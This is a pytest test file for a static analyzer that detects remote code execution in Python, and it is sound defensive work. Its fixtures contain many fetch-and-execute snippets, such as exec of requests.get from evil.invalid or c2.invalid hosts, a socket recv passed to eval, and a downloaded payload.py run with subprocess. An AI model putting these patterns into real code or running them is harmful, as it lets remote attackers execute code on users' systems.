"""Remote data reaching execution in Python."""

from __future__ import annotations

from pathlib import Path

import pytest

from inspector.model import Severity
from tests.static.flow._scan import rce, scan, weak

POSITIVES: dict[str, tuple[dict[str, str], str, int]] = {
    "requests-get-text-exec": (
        {"loader.py": "import requests\nexec(requests.get('https://evil.invalid/x').text)\n"},
        "loader.py",
        2,
    ),
    "urlopen-read-exec": (
        {
            "app/telemetry.py": """
            import urllib.request
            data = urllib.request.urlopen('https://t.invalid/x').read()
            exec(data)
            """
        },
        "app/telemetry.py",
        3,
    ),
    "from-import-urlopen-decode-compile": (
        {
            "a.py": """
            from urllib.request import urlopen
            code = urlopen('https://u.invalid').read().decode()
            exec(compile(code, '<x>', 'exec'))
            """
        },
        "a.py",
        3,
    ),
    "pickle-loads-response-content": (
        {
            "ml/loader.py": """
            import pickle, requests
            resp = requests.get('https://models.invalid/m.pkl')
            model = pickle.loads(resp.content)
            """
        },
        "ml/loader.py",
        3,
    ),
    "marshal-loads": (
        {"a.py": "import marshal, httpx\ncode = marshal.loads(httpx.get('https://m.invalid').content)\nexec(code)\n"},
        "a.py",
        2,
    ),
    "subprocess-shell-from-json": (
        {
            "a.py": """
            import subprocess, requests
            cmd = requests.post('https://c.invalid', json={}).json()['cmd']
            subprocess.run(cmd, shell=True)
            """
        },
        "a.py",
        3,
    ),
    "os-system": (
        {"a.py": "import os, requests\nos.system(requests.get('https://o.invalid').text)\n"},
        "a.py",
        2,
    ),
    "aliased-module-and-from-import": (
        {
            "a.py": "import requests as rq\nfrom subprocess import Popen\n"
            "Popen(rq.get('https://h.invalid').text, shell=True)\n"
        },
        "a.py",
        3,
    ),
    "downloaded-file-run-with-python": (
        {
            "a.py": """
            import requests, subprocess, sys
            r = requests.get('https://f.invalid/payload.py')
            with open('payload.py', 'wb') as f:
                f.write(r.content)
            subprocess.Popen([sys.executable, 'payload.py'])
            """
        },
        "a.py",
        5,
    ),
    "iter-content-loop-then-exec-file": (
        {
            "a.py": """
            import requests
            r = requests.get('https://f.invalid/p', stream=True)
            out = open('/tmp/p.py', 'wb')
            for chunk in r.iter_content(1024):
                out.write(chunk)
            exec(open('/tmp/p.py').read())
            """
        },
        "a.py",
        6,
    ),
    "aiohttp-session": (
        {
            "a.py": """
            import aiohttp
            async def main():
                async with aiohttp.ClientSession() as session:
                    async with session.get('https://a.invalid') as resp:
                        exec(await resp.text())
            """
        },
        "a.py",
        5,
    ),
    "socket-recv": (
        {"a.py": "import socket\ns = socket.socket()\ns.connect(('c2.invalid', 1244))\neval(s.recv(4096))\n"},
        "a.py",
        4,
    ),
    "websockets-recv": (
        {
            "a.py": """
            import websockets
            async def run():
                async with websockets.connect('wss://c2.invalid') as ws:
                    exec(await ws.recv())
            """
        },
        "a.py",
        4,
    ),
    "http-client": (
        {
            "a.py": """
            import http.client
            conn = http.client.HTTPSConnection('c2.invalid')
            conn.request('GET', '/x')
            exec(conn.getresponse().read())
            """
        },
        "a.py",
        4,
    ),
    "wrapper-function-same-file": (
        {"a.py": "import httpx\ndef run(c):\n    exec(c)\nrun(httpx.get('https://h.invalid').text)\n"},
        "a.py",
        3,
    ),
    "returns-tainted-and-method": (
        {
            "a.py": """
            import requests
            def fetch():
                return requests.get('https://g.invalid').json()
            class Runner:
                def go(self):
                    payload = fetch()['code']
                    exec(payload)
            """
        },
        "a.py",
        7,
    ),
    "cross-module-relative-import": (
        {
            "app/__init__.py": "",
            "app/errors.py": "def report(detail):\n    exec(detail)\n",
            "app/client.py": """
                import requests
                from .errors import report
                try:
                    requests.get('https://api.invalid/status').raise_for_status()
                except requests.HTTPError as e:
                    report(e.response.text)
                """,
        },
        "app/errors.py",
        2,
    ),
    "cross-module-absolute-import": (
        {
            "pkg/runner.py": "import builtins\ndef go(s):\n    eval(s)\n",
            "main.py": "import urllib.request\nfrom pkg import runner\n"
            "runner.go(urllib.request.urlopen('https://x.invalid').read())\n",
        },
        "pkg/runner.py",
        3,
    ),
    "self-attribute-between-methods": (
        {
            "a.py": """
            import requests
            class Updater:
                def fetch(self):
                    self.blob = requests.get('https://u.invalid').text
                def apply(self):
                    exec(self.blob)
            """
        },
        "a.py",
        6,
    ),
}


@pytest.mark.parametrize("case", sorted(POSITIVES))
def test_remote_data_reaching_a_python_sink(tmp_path: Path, case: str) -> None:
    files, path, line = POSITIVES[case]
    found = rce(scan(tmp_path, files))
    assert (path, line) in [(f.path, f.line) for f in found], [(f.path, f.line) for f in found]
    assert all(f.rule == "flow.py.remote-code-execution" for f in found)


NEGATIVES: dict[str, dict[str, str]] = {
    "literal-eval-of-response": {
        "a.py": "import ast, requests\nr = requests.get('https://i.invalid')\nast.literal_eval(r.text)\n"
    },
    "json-loads-of-response": {"a.py": "import json, requests\njson.loads(requests.get('https://i.invalid').text)\n"},
    "constant-subprocess": {
        "a.py": "import subprocess\nsubprocess.run(['git', 'status'], check=True)\n"
        "subprocess.run('make build', shell=True)\n"
    },
    "exec-of-constant": {"a.py": "exec('print(1)')\neval('1 + 1')\n"},
    "response-printed": {"a.py": "import requests\nprint(requests.get('https://i.invalid').json()['name'])\n"},
    "method-named-exec-is-not-the-builtin": {
        "a.py": "import requests\ndef exec(q):\n    return q\nexec(requests.get('https://i.invalid').text)\n",
    },
}


@pytest.mark.parametrize("case", sorted(NEGATIVES))
def test_benign_python_gives_no_remote_code_execution(tmp_path: Path, case: str) -> None:
    result = scan(tmp_path, NEGATIVES[case])
    assert rce(result) == []
    assert all(f.severity.rank < Severity.MEDIUM.rank for f in weak(result))


def test_base64_decoded_exec_is_high(tmp_path: Path) -> None:
    result = scan(tmp_path, {"a.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"})
    assert [(f.rule, f.severity) for f in weak(result)] == [("flow.py.decoded-code-execution", Severity.HIGH)]


def test_marshalled_code_object_run_by_exec_is_decoded_code(tmp_path: Path) -> None:
    result = scan(tmp_path, {"a.py": "import marshal as m\nexec(m.loads(b'\\xe3\\x00'))\n"})
    assert [f.rule for f in weak(result)] == ["flow.py.decoded-code-execution"]


def test_environment_data_run_by_exec_stays_a_medium_weak_finding(tmp_path: Path) -> None:
    result = scan(tmp_path, {"a.py": "import os\nexec(os.environ['CODE'])\n"})
    assert [(f.rule, f.severity) for f in weak(result)] == [("flow.py.dynamic-code-execution", Severity.MEDIUM)]


def test_python_host_from_a_constant(tmp_path: Path) -> None:
    result = scan(
        tmp_path, {"a.py": "import requests\nURL = 'https://c2.invalid:1244/p'\nexec(requests.get(URL).text)\n"}
    )
    [finding] = rce(result)
    assert finding.hosts == ("c2.invalid",)
    assert (finding.trace[0].line, finding.trace[-1].line) == (3, 3)


def test_a_pickle_round_trip_of_a_response_is_not_remote_deserialization(tmp_path: Path) -> None:
    """requests' own tests copy a response with pickle.loads(pickle.dumps(r)): nothing from outside is unpickled."""
    fetch = "import pickle, requests\nr = requests.get('https://api.example.test/')\n"
    assert rce(scan(tmp_path, {"a.py": fetch + "copy = pickle.loads(pickle.dumps(r))\n"})) == []
    remote = fetch + "obj = pickle.loads(r.content)\n"
    assert [f.rule for f in rce(scan(tmp_path, {"b.py": remote}))] == ["flow.py.remote-code-execution"]
